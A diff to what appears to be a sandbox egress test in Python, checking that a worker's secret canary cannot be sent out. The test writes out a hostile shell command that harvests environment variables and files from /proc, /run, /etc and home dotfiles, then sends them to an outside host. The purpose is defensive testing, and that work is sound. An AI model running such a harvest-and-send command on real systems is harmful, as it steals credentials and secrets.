@@ -182,14 +182,16 @@ def test_another_name_in_the_hello_than_in_the_request(online, verdict):
 
 
 def test_the_secret_of_the_worker_does_not_go_out(online, verdict):
-    """A hostile command sends all that it can find to a host that it may reach."""
-    find = 'found=$(cat /proc/*/environ /run/*/* /etc/* ~/.* 2>/dev/null | tr "\\0" " " | grep -ao "canary[-0-9a-f]*")'
+    """A hostile command sends all that it can find to a host that it may reach. It does not wait for the environment of
+    a process that has no memory left to answer with: another test's bomb may run beside it."""
+    places = "/proc/self/environ /proc/*/environ /run/*/* /etc/* ~/.*"
+    find = f'found=$(timeout 5 cat {places} 2>/dev/null | tr "\\0" " " | grep -ao "canary[-0-9a-f]*")'
     send = asking(f"{named(PUBLIC)}:443", "''", '"all that was found: $found"')
     script = f"{find}\n{send}"
     assert b"reached at" in online.bash(script).output
     assert b"all that was found: " in online.told()
     assert online.canary.encode() not in online.told()
-    online.unprotected(script)
+    assert "reached at" in online.unprotected(script)
     assert online.canary.encode() in online.told()
     verdict("there was nothing to send", "it was sent")
 
